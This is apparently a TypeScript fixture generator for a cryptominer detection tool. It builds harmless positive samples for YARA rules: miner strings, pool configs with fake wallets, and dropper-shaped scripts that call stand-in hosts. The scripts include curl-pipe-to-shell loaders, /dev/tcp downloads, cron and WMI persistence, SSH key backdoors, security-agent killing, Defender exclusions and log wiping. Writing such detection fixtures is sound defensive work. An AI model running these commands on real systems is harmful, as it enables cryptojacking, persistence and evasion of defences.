// Generates harmless positive samples for minehunter's YARA rules into a directory: small C programs
// compiled with cc (they carry strings and constants, no mining code, and only print a line) and
// text or byte files shaped like configs, dropper scripts, manifests and web pages. Nothing here is
// ever executed by the tests, and every address in them is a documentation or .invalid address.
import { execFile } from 'node:child_process';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { deflateRawSync } from 'node:zlib';
import type { MinerKind } from '../../src/model/finding.js';

const execFileP = promisify(execFile);

/** A Monero-shaped address (95 base58 characters, starts with 4): valid format, no such wallet. */
export const SAMPLE_MONERO_WALLET = ('4A' + 'MinehunterTestWa11etNotRea1DoNotSendFundsHere').padEnd(95, '1');
/** An Ethereum-shaped address, obviously not a real one. */
export const SAMPLE_ETH_WALLET = '0x' + 'feedface'.repeat(5);
const POOL = 'pool.example.invalid';
const C2 = '192.0.2.10'; // TEST-NET-1, reserved for documentation

interface SampleBase {
  /** Stable identifier, also the file's base name. */
  id: string;
  /** Which family of rules the sample stands for (the rule file's theme). */
  family: string;
  /** The kind every rule in `rules` must declare in its meta. */
  kind: MinerKind;
  /** Rules that must match this sample (others may match too). */
  rules: readonly string[];
  /**
   * A record of a miner rather than the miner (its console log, a captured pool session): a scan
   * weighs it as a mention, `low` without a kind, though its rules match (README, evidence weighting).
   */
  mention?: boolean;
}

interface TextSample extends SampleBase {
  type: 'text';
  file: string;
  text: string;
  /** UTF-16LE with a byte-order mark, as Windows tools (regedit, PowerShell ISE) write. */
  utf16?: boolean;
}

interface BytesSample extends SampleBase {
  type: 'bytes';
  file: string;
  bytes: () => Buffer;
}

interface CSample extends SampleBase {
  type: 'c';
  file: string;
  /** exe: an executable; shared: a .so; object: a relocatable .o (ELF type REL, like a kernel module). */
  link: 'exe' | 'shared' | 'object';
  strings: readonly string[];
  u64?: readonly bigint[];
  u32?: readonly number[];
}

export type SampleDefinition = TextSample | BytesSample | CSample;

export interface GeneratedSample {
  id: string;
  family: string;
  kind: MinerKind;
  rules: readonly string[];
  mention?: boolean;
  type: SampleDefinition['type'];
  path: string;
}

const RANDOMX_SUPERSCALAR_ADD = [
  9298411001130361340n,
  12065312585734608966n,
  9306329213124626780n,
  5281919268842080866n,
  10536153434571861004n,
  3398623926847679864n,
  9549104520008361294n,
] as const;
// Lower-case r on purpose: the constant is 0x72, 0x41, 0x56... ("rAVENCOINKAWPOW").
const KAWPOW_PADDING = [...'rAVENCOINKAWPOW'].map((c) => c.charCodeAt(0));

function base64Utf16(text: string): string {
  return Buffer.from(text, 'utf16le').toString('base64');
}

/** A minimal valid WebAssembly module exporting `name: () -> i32` that returns 0. */
function wasmModule(exportName = 'cryptonight_hash'): Buffer {
  const name = Buffer.from(exportName);
  const section = (id: number, body: number[]): number[] => [id, body.length, ...body];
  return Buffer.from([
    ...[0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00],
    ...section(1, [1, 0x60, 0, 1, 0x7f]),
    ...section(3, [1, 0]),
    ...section(7, [1, name.length, ...name, 0x00, 0]),
    ...section(10, [1, 4, 0, 0x41, 0, 0x0b]),
  ]);
}

/** A stub with an MZ header and a miner's bundled-file names; it is not a loadable PE. */
function fakePeWithWinRing0(): Buffer {
  const header = Buffer.alloc(128);
  header.write('MZ', 0, 'latin1');
  return Buffer.concat([
    header,
    Buffer.from('This is a minehunter test stub, not a program.\0', 'latin1'),
    Buffer.from('WinRing0x64.sys\0', 'utf16le'),
    Buffer.from('xmrig.exe\0RandomX MSR mod\0', 'latin1'),
  ]);
}

export const SAMPLES: readonly SampleDefinition[] = [
  // ---- CPU miners (rules/miners-cpu.yar) ----
  {
    id: 'xmrig',
    family: 'miners-cpu',
    kind: 'open-source-miner',
    rules: ['MH_XMRig_Miner'],
    type: 'c',
    file: 'xmrig',
    link: 'exe',
    strings: [
      'XMRig/6.22.2 (Linux x86_64) libuv/1.48.0 gcc/12.2.0',
      'Usage: xmrig [OPTIONS]',
      'donate.v2.xmrig.com',
      '      --donate-level=N          donate level, default 1%',
      '      --randomx-1gb-pages       use 1GB hugepages for RandomX dataset',
      '      --cpu-max-threads-hint=N  maximum CPU threads count (in percentage) hint',
      '      --randomx-wrmsr=N         write custom value(s) to MSR registers',
    ],
  },
  {
    id: 'xmrig-fork-unbranded',
    family: 'miners-cpu',
    kind: 'open-source-miner',
    rules: ['MH_XMRig_Fork_Unbranded'],
    type: 'c',
    file: 'sysguard',
    link: 'exe',
    strings: [
      '--randomx-1gb-pages',
      '--randomx-wrmsr',
      '--cpu-max-threads-hint',
      'rx/wow',
      'rx/arq',
      'cn/half',
    ],
  },
  {
    id: 'xmrig-proxy',
    family: 'miners-cpu',
    kind: 'open-source-miner',
    rules: ['MH_XMRig_Proxy'],
    type: 'c',
    file: 'xmrig-proxy',
    link: 'exe',
    strings: ['xmrig-proxy 6.22.0', '--custom-diff=N', '--mode=nicehash', '--access-password=P'],
  },
  {
    id: 'xmrig-log',
    family: 'miners-cpu',
    kind: 'open-source-miner',
    rules: ['MH_XMRig_Console_Output'],
    mention: true,
    type: 'text',
    file: 'xmrig.log',
    text: [
      `[2026-11-26 10:00:01.101]  net      use pool ${POOL}:3333  192.0.2.44`,
      `[2026-11-26 10:00:01.202]  net      new job from ${POOL}:3333 diff 120001 algo rx/0 height 3300000`,
      '[2026-11-26 10:00:03.303]  cpu      READY threads 2/2 (2) huge pages 100% 2/2 memory 4096 KB (20 ms)',
      '[2026-11-26 10:01:03.404]  cpu      accepted (1/0) diff 120001 (41 ms)',
      '[2026-11-26 10:01:03.505]  miner    speed 10s/60s/15m 1234.5 1230.1 n/a H/s max 1240.0 H/s',
      '',
    ].join('\n'),
  },
  {
    id: 'xmr-stak',
    family: 'miners-cpu',
    kind: 'open-source-miner',
    rules: ['MH_XmrStak_Miner'],
    type: 'c',
    file: 'xmr-stak-rx',
    link: 'exe',
    strings: [
      'xmr-stak-rx 1.0.5',
      'https://github.com/fireice-uk/xmr-stak',
      'pools.txt',
      'nvidia.txt',
      'use_nicehash',
    ],
  },
  {
    id: 'cpuminer',
    family: 'miners-cpu',
    kind: 'open-source-miner',
    rules: ['MH_Cpuminer_Minerd'],
    type: 'c',
    file: 'minerd',
    link: 'exe',
    strings: [
      'cpuminer 2.5.1',
      'Usage: minerd [OPTIONS]',
      'scrypt(1024, 1, 1) (default)',
      '  -O, --userpass=U:P    username:password pair for mining server',
      'X-Mining-Extensions',
      'Stratum requested work restart',
    ],
  },
  {
    id: 'cpuminer-opt',
    family: 'miners-cpu',
    kind: 'open-source-miner',
    rules: ['MH_Cpuminer_Forks'],
    type: 'c',
    file: 'cpuminer-avx2',
    link: 'exe',
    strings: ['cpuminer-opt 23.15', 'JayDDee', 'yespower', 'lyra2z330', 'ghostrider', 'minotaurx'],
  },
  {
    id: 'stratum-client',
    family: 'miners-cpu',
    kind: 'open-source-miner',
    rules: ['MH_Stratum_Mining_Protocol'],
    type: 'c',
    file: 'stratum-client',
    link: 'exe',
    strings: [
      '{"id": 1, "method": "mining.subscribe", "params": []}',
      '{"id": 2, "method": "mining.authorize", "params": ["%s", "%s"]}',
      '{"id": 4, "method": "mining.submit", "params": ["%s", "%s", "%s", "%s", "%s"]}',
      'mining.notify',
    ],
  },
  {
    id: 'monero-stratum-capture',
    family: 'miners-cpu',
    kind: 'open-source-miner',
    rules: ['MH_Monero_Stratum_Login'],
    mention: true,
    type: 'text',
    file: 'pool-session.jsonl',
    text: [
      `{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"${SAMPLE_MONERO_WALLET}","pass":"x","agent":"XMRig/6.22.2","rigid":"r1","algo":["rx/0"]}}`,
      '{"jsonrpc":"2.0","method":"job","params":{"blob":"0e0e","job_id":"42","target":"b88d0600","seed_hash":"00ff"}}',
      '{"id":2,"jsonrpc":"2.0","method":"keepalived","params":{"id":"1"}}',
      '',
    ].join('\n'),
  },
  {
    id: 'msr-tuning',
    family: 'miners-cpu',
    kind: 'open-source-miner',
    rules: ['MH_Miner_MSR_HugePages_Tuning'],
    type: 'text',
    file: 'boost.sh',
    text: [
      '#!/bin/sh',
      'modprobe msr allow_writes=on',
      'wrmsr -a 0xc0011020 0',
      'wrmsr -a 0xc0011021 0x40',
      'wrmsr -a 0x1a4 0xf',
      'sysctl -w vm.nr_hugepages=1280',
      '',
    ].join('\n'),
  },

  // ---- GPU miners (rules/miners-gpu.yar) ----
  {
    id: 't-rex',
    family: 'miners-gpu',
    kind: 'open-source-miner',
    rules: ['MH_TRex_Miner'],
    type: 'c',
    file: 't-rex',
    link: 'exe',
    strings: [
      'T-Rex NVIDIA GPU miner v0.26.8',
      'trex-miner.com',
      '--api-bind-http',
      '--api-bind-telnet',
      '--lhr-tune',
    ],
  },
  {
    id: 'lolminer',
    family: 'miners-gpu',
    kind: 'open-source-miner',
    rules: ['MH_LolMiner'],
    type: 'c',
    file: 'lolMiner',
    link: 'exe',
    strings: ['lolMiner 1.88', '--dualmode', '--dualpool', '--apiport', 'AUTOLYKOS2', 'BEAM-III'],
  },
  {
    id: 'nbminer',
    family: 'miners-gpu',
    kind: 'open-source-miner',
    rules: ['MH_NBMiner'],
    type: 'c',
    file: 'nbminer',
    link: 'exe',
    strings: ['NBMiner 42.3', 'NebuTech', '--lhr-mode', 'octopus', 'kawpow'],
  },
  {
    id: 'phoenixminer',
    family: 'miners-gpu',
    kind: 'open-source-miner',
    rules: ['MH_PhoenixMiner'],
    type: 'c',
    file: 'PhoenixMiner',
    link: 'exe',
    strings: ['PhoenixMiner 6.2c', '-wal', '-epsw', '-cdmport', '-rmode', '-tstop'],
  },
  {
    id: 'gminer',
    family: 'miners-gpu',
    kind: 'open-source-miner',
    rules: ['MH_GMiner'],
    type: 'c',
    file: 'miner',
    link: 'exe',
    strings: [
      'GMiner v3.44',
      'https://github.com/develsoftware/GMinerRelease',
      '--electricity_cost',
      '--templimit',
    ],
  },
  {
    id: 'srbminer',
    family: 'miners-gpu',
    kind: 'open-source-miner',
    rules: ['MH_SRBMiner'],
    type: 'c',
    file: 'SRBMiner-MULTI',
    link: 'exe',
    strings: ['SRBMiner-MULTI 2.6.7', 'doktor83', '--disable-gpu', '--cpu-threads', '--give-up-limit'],
  },
  {
    id: 'teamredminer',
    family: 'miners-gpu',
    kind: 'open-source-miner',
    rules: ['MH_TeamRedMiner'],
    type: 'c',
    file: 'teamredminer',
    link: 'exe',
    strings: ['teamredminer v0.10.21', 'todxx', '--eth_config', '--bus_reorder', '--init_style'],
  },
  {
    id: 'nanominer',
    family: 'miners-gpu',
    kind: 'open-source-miner',
    rules: ['MH_Nanominer'],
    type: 'c',
    file: 'nanominer',
    link: 'exe',
    strings: ['nanominer version 3.9.2', 'nanopool', 'rigName', 'webPort', '[RandomX]'],
  },
  {
    id: 'ccminer',
    family: 'miners-gpu',
    kind: 'open-source-miner',
    rules: ['MH_Ccminer'],
    type: 'c',
    file: 'ccminer',
    link: 'exe',
    strings: ['ccminer 2.3.1-tpruvot', '--cuda-schedule', '--max-temp', '--plimit', 'lyra2v2'],
  },
  {
    id: 'ethminer',
    family: 'miners-gpu',
    kind: 'open-source-miner',
    rules: ['MH_Ethminer'],
    type: 'c',
    file: 'ethminer',
    link: 'exe',
    strings: ['ethminer 0.19.0', 'ethereum-mining', '--farm-recheck', '--cuda-grid-size', 'stratum1+tcp'],
  },
  {
    id: 'wildrig',
    family: 'miners-gpu',
    kind: 'open-source-miner',
    rules: ['MH_WildRig_Multi'],
    type: 'c',
    file: 'wildrig-multi',
    link: 'exe',
    strings: ['WildRig Multi 0.40.8', 'andru-kun', '--opencl-threads', '--opencl-launch', '--print-full'],
  },

  // ---- Algorithms (rules/algorithms.yar) ----
  {
    id: 'randomx-api',
    family: 'algorithms',
    kind: 'open-source-miner',
    rules: ['MH_Algo_RandomX_Salt_And_API'],
    type: 'c',
    file: 'librx-sample',
    link: 'exe',
    strings: ['RandomX\x03', 'randomx_alloc_cache', 'randomx_init_dataset'],
  },
  {
    id: 'randomx-constants',
    family: 'algorithms',
    kind: 'open-source-miner',
    rules: ['MH_Algo_RandomX_Superscalar_Constants'],
    type: 'c',
    file: 'stripped-rx',
    link: 'exe',
    strings: [],
    u64: RANDOMX_SUPERSCALAR_ADD,
  },
  {
    id: 'cryptonight',
    family: 'algorithms',
    kind: 'open-source-miner',
    rules: ['MH_Algo_CryptoNight_Variants'],
    type: 'c',
    file: 'cn-sample',
    link: 'exe',
    strings: ['cryptonight', 'cn/r', 'cn/half', 'cn-lite/1', 'cn-heavy/0', 'cn-pico'],
  },
  {
    id: 'argon2-chukwa',
    family: 'algorithms',
    kind: 'open-source-miner',
    rules: ['MH_Algo_Argon2_Chukwa'],
    type: 'c',
    file: 'chukwa-sample',
    link: 'exe',
    strings: ['argon2/chukwa', 'argon2/chukwav2', 'argon2/wrkz'],
  },
  {
    id: 'kawpow',
    family: 'algorithms',
    kind: 'open-source-miner',
    rules: ['MH_Algo_KawPow_ProgPow'],
    type: 'c',
    file: 'kp-sample',
    link: 'exe',
    strings: [],
    u32: KAWPOW_PADDING,
  },
  {
    id: 'ethash',
    family: 'algorithms',
    kind: 'open-source-miner',
    rules: ['MH_Algo_Ethash_DAG'],
    type: 'c',
    file: 'ethash-sample',
    link: 'exe',
    strings: ['ethash_calculate_dag_item', 'ethash_light_new', 'ETHASH_DATASET_PARENTS'],
  },

  // ---- Configuration (rules/configs.yar, rules/wallets.yar) ----
  {
    id: 'xmrig-config',
    family: 'configs',
    kind: 'open-source-miner',
    rules: ['MH_Config_XMRig_JSON', 'MH_Config_XMRig_Stealth', 'MH_Wallet_Monero_Address'],
    type: 'text',
    file: 'config.json',
    text: JSON.stringify(
      {
        autosave: true,
        background: true,
        randomx: { init: -1, mode: 'auto', '1gb-pages': false, wrmsr: true },
        cpu: { enabled: true, 'huge-pages': true, 'max-threads-hint': 100 },
        'donate-level': 1,
        'donate-over-proxy': 1,
        pools: [
          {
            algo: 'rx/0',
            url: `${POOL}:3333`,
            user: SAMPLE_MONERO_WALLET,
            pass: 'x',
            'rig-id': null,
            nicehash: false,
            keepalive: true,
            tls: false,
          },
        ],
      },
      null,
      4,
    ),
  },
  {
    id: 'xmr-stak-pools',
    family: 'configs',
    kind: 'open-source-miner',
    rules: ['MH_Config_XmrStak_Pools'],
    type: 'text',
    file: 'pools.txt',
    text: [
      '"pool_list" :',
      '[',
      `  {"pool_address" : "${POOL}:5555", "wallet_address" : "${SAMPLE_MONERO_WALLET}", "rig_id" : "", "pool_password" : "x", "use_nicehash" : false, "use_tls" : false, "tls_fingerprint" : "", "pool_weight" : 1 },`,
      '],',
      '"currency" : "monero",',
      '',
    ].join('\n'),
  },
  {
    id: 'nanominer-config',
    family: 'configs',
    kind: 'open-source-miner',
    rules: ['MH_Config_Nanominer_Ini', 'MH_Wallet_Monero_Address'],
    type: 'text',
    file: 'config.ini',
    text: [
      '[RandomX]',
      `wallet = ${SAMPLE_MONERO_WALLET}`,
      'rigName = rig01',
      `pool1 = ${POOL}:10300`,
      '',
    ].join('\n'),
  },
  {
    id: 'stratum-url',
    family: 'configs',
    kind: 'open-source-miner',
    rules: ['MH_Config_Stratum_Pool_URL'],
    type: 'text',
    file: 'pool.txt',
    text: `stratum+tcp://${POOL}:3333\n`,
  },
  {
    id: 'miner-command-line',
    family: 'configs',
    kind: 'open-source-miner',
    rules: ['MH_Config_Miner_Command_Line', 'MH_Wallet_Monero_Address'],
    type: 'text',
    file: 'run.sh',
    text: `#!/bin/sh\nnohup ./.sshd -o ${POOL}:3333 -u ${SAMPLE_MONERO_WALLET} -p x -a rx/0 --donate-level=1 -B >/dev/null 2>&1 &\n`,
  },
  {
    id: 'pool-domains',
    family: 'configs',
    kind: 'open-source-miner',
    rules: ['MH_Config_Known_Pool_Domains'],
    type: 'text',
    file: 'env.sh',
    text: 'POOL=pool.supportxmr.com:443\nBACKUP=xmr.nanopool.org:14433\n',
  },
  {
    id: 'eth-wallet-args',
    family: 'wallets',
    kind: 'open-source-miner',
    rules: ['MH_Wallet_Ethereum_Address_In_Miner_Args'],
    type: 'text',
    file: 'start-gpu.sh',
    text: `#!/bin/sh\n./t-rex -a ethash -o ${POOL}:4444 -u ${SAMPLE_ETH_WALLET}.rig1 -p x\n`,
  },

  // ---- Linux droppers (rules/droppers-linux.yar) ----
  {
    id: 'kill-competitors',
    family: 'droppers-linux',
    kind: 'fileless',
    rules: ['MH_Dropper_Kill_Competing_Miners'],
    type: 'text',
    file: 'clean.sh',
    text: [
      '#!/bin/sh',
      'pkill -9 -f kdevtmpfsi',
      'pkill -9 -f kinsing',
      'killall -9 xmrig minerd 2>/dev/null',
      "ps aux | grep -v grep | grep -E 'kthreaddi|sustes|watchbog|dbused' | awk '{print $2}' | xargs kill -9",
      '',
    ].join('\n'),
  },
  {
    id: 'stop-security-agents',
    family: 'droppers-linux',
    kind: 'fileless',
    rules: ['MH_Dropper_Stop_Cloud_Security_Agents'],
    type: 'text',
    file: 'agents.sh',
    text: [
      '#!/bin/sh',
      'systemctl stop aliyun.service',
      'systemctl disable aliyun.service',
      'pkill -9 AliYunDun',
      'rm -rf /usr/local/aegis',
      '/usr/local/qcloud/stargate/admin/uninstall.sh',
      '/usr/local/qcloud/YunJing/uninst.sh',
      'pkill -9 YDService',
      '',
    ].join('\n'),
  },
  {
    id: 'chattr-lock',
    family: 'droppers-linux',
    kind: 'fileless',
    rules: ['MH_Dropper_Chattr_File_Locking'],
    type: 'text',
    file: 'lock.sh',
    text: '#!/bin/sh\nchattr -i /etc/crontab /var/spool/cron/root\nchattr +i /root/.ssh/authorized_keys\n',
  },
  {
    id: 'download-and-run',
    family: 'droppers-linux',
    kind: 'fileless',
    rules: ['MH_Dropper_Download_And_Run'],
    type: 'text',
    file: 'ldr.sh',
    text: `#!/bin/sh\n(curl -fsSL http://${C2}/ldr.sh || wget -q -O- http://${C2}/ldr.sh) | sh\n`,
  },
  {
    id: 'dev-tcp-download',
    family: 'droppers-linux',
    kind: 'fileless',
    rules: ['MH_Dropper_DevTcp_Download'],
    type: 'text',
    file: 'get.sh',
    text: [
      '#!/bin/bash',
      `exec 3<>/dev/tcp/${C2}/80`,
      `printf 'GET /xmr.tar.gz HTTP/1.1\\r\\nHost: ${C2}\\r\\n\\r\\n' >&3`,
      'cat <&3 > /tmp/.x/xmr.tar.gz',
      '',
    ].join('\n'),
  },
  {
    id: 'cron-persistence',
    family: 'droppers-linux',
    kind: 'fileless',
    rules: ['MH_Dropper_Cron_Download_Persistence'],
    type: 'text',
    file: 'cron.sh',
    text: [
      '#!/bin/sh',
      `(crontab -l 2>/dev/null; echo "*/5 * * * * curl -fsSL http://${C2}/cr.sh | sh") | crontab -`,
      '',
    ].join('\n'),
  },
  {
    id: 'hidden-staging-dir',
    family: 'droppers-linux',
    kind: 'hidden-directory',
    rules: ['MH_Dropper_Hidden_Staging_Directory'],
    type: 'text',
    file: 'stage.sh',
    text: '#!/bin/sh\nmkdir -p /tmp/.X25-unix/.rsync\ncd /tmp/.X25-unix/.rsync\ncp /tmp/payload ./kswapd0\nchmod +x kswapd0\n',
  },
  {
    id: 'base64-pipe-shell',
    family: 'droppers-linux',
    kind: 'fileless',
    rules: ['MH_Dropper_Base64_Pipe_Shell'],
    type: 'text',
    file: 'b64.sh',
    text: `#!/bin/sh\necho ${Buffer.from("echo 'minehunter harmless sample: this line only prints text and exits'").toString('base64')} | base64 -d | bash\n`,
  },
  {
    id: 'ssh-key-backdoor',
    family: 'droppers-linux',
    kind: 'fileless',
    rules: ['MH_Dropper_SSH_Key_Backdoor'],
    type: 'text',
    file: 'key.sh',
    text: `#!/bin/sh\necho "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDminehunterSampleKeyNotAUsableKeyAtAll0123456789 sample@minehunter" >> /root/.ssh/authorized_keys\n`,
  },
  {
    id: 'process-masquerade',
    family: 'droppers-linux',
    kind: 'fileless',
    rules: ['MH_Dropper_Process_Masquerade'],
    type: 'text',
    file: 'masq.sh',
    text: "#!/bin/bash\ncp /tmp/.x/xmrig /usr/local/bin/kthreadd\nexec -a '[kworker/0:2]' /usr/local/bin/kthreadd\n",
  },
  {
    id: 'memfd-exec',
    family: 'droppers-linux',
    kind: 'fileless',
    rules: ['MH_Dropper_Memfd_Fileless_Exec'],
    type: 'text',
    file: 'm.py',
    text: [
      'import os, urllib.request',
      `data = urllib.request.urlopen("http://${C2}/x").read()`,
      'fd = os.memfd_create("kworker", 0)',
      'os.write(fd, data)',
      'os.execv("/proc/self/fd/" + str(fd), ["[kworker/0:1]"])',
      '',
    ].join('\n'),
  },
  {
    id: 'defense-evasion',
    family: 'droppers-linux',
    kind: 'fileless',
    rules: ['MH_Dropper_Defense_Evasion_Tampering'],
    type: 'text',
    file: 'prep.sh',
    text: [
      '#!/bin/sh',
      'setenforce 0',
      'echo SELINUX=disabled > /etc/selinux/config',
      'ufw disable',
      'iptables -F',
      'echo 0 > /proc/sys/kernel/nmi_watchdog',
      'ulimit -n 65535',
      'history -c',
      'unset HISTFILE',
      'echo > /var/log/wtmp',
      '',
    ].join('\n'),
  },
  {
    id: 'systemd-miner-unit',
    family: 'droppers-linux',
    kind: 'open-source-miner',
    rules: ['MH_Dropper_Systemd_Miner_Unit', 'MH_Config_Stratum_Pool_URL'],
    type: 'text',
    file: 'systemd-helper.service',
    text: [
      '[Unit]',
      'Description=System helper',
      '[Service]',
      `ExecStart=/usr/local/lib/.cache/systemd-helper --donate-level=1 -o stratum+tcp://${POOL}:3333 -u rig -p x`,
      'Restart=always',
      '[Install]',
      'WantedBy=multi-user.target',
      '',
    ].join('\n'),
  },

  // ---- Hiding: preload and kernel modules (rules/hiding.yar) ----
  {
    id: 'preload-install',
    family: 'hiding',
    kind: 'preload',
    rules: ['MH_Preload_Install_Script'],
    type: 'text',
    file: 'hide.sh',
    text: '#!/bin/sh\ncp libsystem.so /usr/local/lib/libsystem.so\necho /usr/local/lib/libsystem.so > /etc/ld.so.preload\n',
  },
  {
    id: 'preload-hider-library',
    family: 'hiding',
    kind: 'preload',
    rules: ['MH_Preload_Process_Hider_Library'],
    type: 'c',
    file: 'libsystem.so',
    link: 'shared',
    strings: ['readdir', 'readdir64', 'dlsym', '/proc/self/fd/%d', '/proc/%s/stat', 'kdevtmpfsi'],
  },
  {
    id: 'lkm-rootkit',
    family: 'hiding',
    kind: 'driver',
    rules: ['MH_Driver_Linux_LKM_Rootkit'],
    type: 'c',
    file: 'hidemod.ko',
    link: 'object',
    strings: [
      'vermagic=6.1.0 SMP preempt mod_unload modversions',
      'sys_call_table',
      'kallsyms_lookup_name',
      'hacked_getdents64',
      'module_hide',
    ],
  },

  // ---- Containers (rules/containers.yar) ----
  {
    id: 'dockerfile-miner',
    family: 'containers',
    kind: 'container-image',
    rules: ['MH_Container_Dockerfile_Miner'],
    type: 'text',
    file: 'Dockerfile',
    text: [
      'FROM alpine:3.19',
      'RUN apk add --no-cache curl && curl -fsSL -o /usr/local/bin/app https://example.invalid/xmrig',
      `ENTRYPOINT ["/usr/local/bin/app", "--donate-level=1", "-o", "stratum+tcp://${POOL}:3333"]`,
      '',
    ].join('\n'),
  },
  {
    id: 'compose-miner',
    family: 'containers',
    kind: 'container-image',
    rules: ['MH_Container_Manifest_Miner'],
    type: 'text',
    file: 'docker-compose.yml',
    text: [
      'services:',
      '  app:',
      '    image: registry.example.invalid/xmrig:latest',
      `    command: ["--donate-level=1", "-o", "stratum+tcp://${POOL}:3333"]`,
      '',
    ].join('\n'),
  },
  {
    id: 'docker-api-abuse',
    family: 'containers',
    kind: 'container-image',
    rules: ['MH_Container_Docker_API_Abuse'],
    type: 'text',
    file: 'spread.sh',
    text: `#!/bin/sh\ndocker -H tcp://192.0.2.20:2375 run -d --privileged --net host -v /:/host alpine chroot /host sh -c 'curl -fsSL http://${C2}/xmr.sh | sh'\n`,
  },

  // ---- Windows droppers (rules/droppers-windows.yar) ----
  {
    id: 'powershell-downloader',
    family: 'droppers-windows',
    kind: 'fileless',
    rules: ['MH_Win_PowerShell_Miner_Downloader'],
    type: 'text',
    file: 'update.ps1',
    utf16: true,
    text: [
      `powershell -c "(New-Object Net.WebClient).DownloadFile('http://${C2}/xmrig.exe', $env:TEMP + '\\svchost.exe')"`,
      `Start-Process "$env:TEMP\\svchost.exe" -ArgumentList '-o stratum+tcp://${POOL}:3333 --donate-level=1' -WindowStyle Hidden`,
      '',
    ].join('\r\n'),
  },
  {
    id: 'powershell-encoded',
    family: 'droppers-windows',
    kind: 'fileless',
    rules: ['MH_Win_PowerShell_Hidden_Encoded'],
    type: 'text',
    file: 'run.cmd',
    text: `powershell.exe -NoP -W Hidden -Enc ${base64Utf16("Write-Output 'minehunter harmless sample: prints one line'")}\r\n`,
  },
  {
    id: 'protectionx',
    family: 'droppers-windows',
    kind: 'driver',
    rules: ['MH_Driver_ProtectionX_Miner'],
    type: 'text',
    file: 'hy.reg',
    utf16: true,
    text: [
      'Windows Registry Editor Version 5.00',
      '',
      '[HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\hy5.5]',
      '"Type"=dword:00000001',
      '"ImagePath"="\\\\??\\\\C:\\\\Windows\\\\System32\\\\drivers\\\\hy5.5.sys"',
      '',
      '[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run]',
      '"logon"="C:\\\\Windows\\\\System32\\\\win1logon.exe"',
      '"update"="C:\\\\Windows\\\\wuauc1t.exe ProcessExtended.dll"',
      '',
    ].join('\r\n'),
  },
  {
    id: 'kernel-service-temp',
    family: 'droppers-windows',
    kind: 'driver',
    rules: ['MH_Driver_Windows_Kernel_Service_Temp'],
    type: 'text',
    file: 'drv.bat',
    text: 'sc create WinSvc32 type= kernel binPath= C:\\Windows\\Temp\\drv32.sys start= auto\r\nsc start WinSvc32\r\n',
  },
  {
    id: 'winring0-bundle',
    family: 'droppers-windows',
    kind: 'driver',
    rules: ['MH_Driver_WinRing0_With_Miner'],
    type: 'bytes',
    file: 'bundle.bin',
    bytes: fakePeWithWinRing0,
  },
  {
    id: 'fonts-hidden-dir',
    family: 'droppers-windows',
    kind: 'hidden-directory',
    rules: ['MH_Win_Fonts_Hidden_Directory'],
    type: 'text',
    file: 'fonts.bat',
    text: 'mkdir C:\\Windows\\Fonts\\arial\r\nattrib +s +h C:\\Windows\\Fonts\\arial\r\nstart /b C:\\Windows\\Fonts\\arial\\svchost.exe\r\n',
  },
  {
    id: 'scheduled-task',
    family: 'droppers-windows',
    kind: 'fileless',
    rules: ['MH_Win_Scheduled_Task_Miner'],
    type: 'text',
    file: 'task.bat',
    text: 'schtasks /create /tn "WindowsUpdateCheck" /tr "C:\\ProgramData\\svc\\xmrig.exe --donate-level=1" /sc onstart /ru system\r\n',
  },
  {
    id: 'wmi-persistence',
    family: 'droppers-windows',
    kind: 'fileless',
    rules: ['MH_Win_WMI_Persistence_Miner'],
    type: 'text',
    file: 'wmi.ps1',
    text: [
      "$f = Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{Name='upd'; QueryLanguage='WQL'; Query='SELECT * FROM __InstanceModificationEvent WITHIN 60'}",
      "$c = Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsumer -Arguments @{Name='upd'; CommandLineTemplate='powershell -w hidden -c C:\\ProgramData\\svc\\run.ps1'}",
      'Set-WmiInstance -Namespace root\\subscription -Class __FilterToConsumerBinding -Arguments @{Filter=$f; Consumer=$c}',
      '',
    ].join('\r\n'),
  },
  {
    id: 'defender-exclusion',
    family: 'droppers-windows',
    kind: 'fileless',
    rules: ['MH_Win_Defender_Exclusion_Miner'],
    type: 'text',
    file: 'def.ps1',
    text: "Add-MpPreference -ExclusionPath 'C:\\ProgramData\\svc'\r\nSet-MpPreference -DisableRealtimeMonitoring $true\r\nStart-Process 'C:\\ProgramData\\svc\\miner.exe'\r\n",
  },

  // ---- Browser miners (rules/web-miners.yar) ----
  {
    id: 'coinhive-page',
    family: 'web-miners',
    kind: 'web-script',
    rules: ['MH_Web_CoinHive', 'MH_Web_Injected_Miner_Script_Tag'],
    type: 'text',
    file: 'index.html',
    text: [
      '<html><head><title>sample</title>',
      '<script src="https://coinhive.com/lib/coinhive.min.js"></script>',
      "<script>var miner = new CoinHive.Anonymous('SAMPLE_SITE_KEY', {throttle: 0.3}); miner.start();</script>",
      '</head><body></body></html>',
      '',
    ].join('\n'),
  },
  {
    id: 'miner-service-script',
    family: 'web-miners',
    kind: 'web-script',
    rules: ['MH_Web_Miner_Services'],
    type: 'text',
    file: 'crlt.js',
    text: "// loaded from crypto-loot.com\nvar miner = new CRLT.Anonymous('SAMPLE_KEY', {threads: 2});\nminer.start();\n",
  },
  {
    id: 'wasm-cryptonight',
    family: 'web-miners',
    kind: 'web-script',
    rules: ['MH_Web_Wasm_CryptoNight_Module'],
    type: 'bytes',
    file: 'cryptonight.wasm',
    bytes: () => wasmModule(),
  },
  {
    id: 'wasm-loader',
    family: 'web-miners',
    kind: 'web-script',
    rules: ['MH_Web_Wasm_Miner_Loader'],
    type: 'text',
    file: 'worker-loader.js',
    text: [
      "const mod = await WebAssembly.compileStreaming(fetch('/static/cryptonight.wasm'));",
      "const workers = [0, 1].map(() => new Worker('/static/worker.js'));",
      "workers.forEach((w) => w.postMessage({ module: mod, fn: '_cryptonight_hash' }));",
      '',
    ].join('\n'),
  },
  {
    id: 'websocket-miner-client',
    family: 'web-miners',
    kind: 'web-script',
    rules: ['MH_Web_WebSocket_Miner_Client'],
    type: 'text',
    file: 'client.js',
    text: [
      "const ws = new WebSocket('wss://proxy.example.invalid/');",
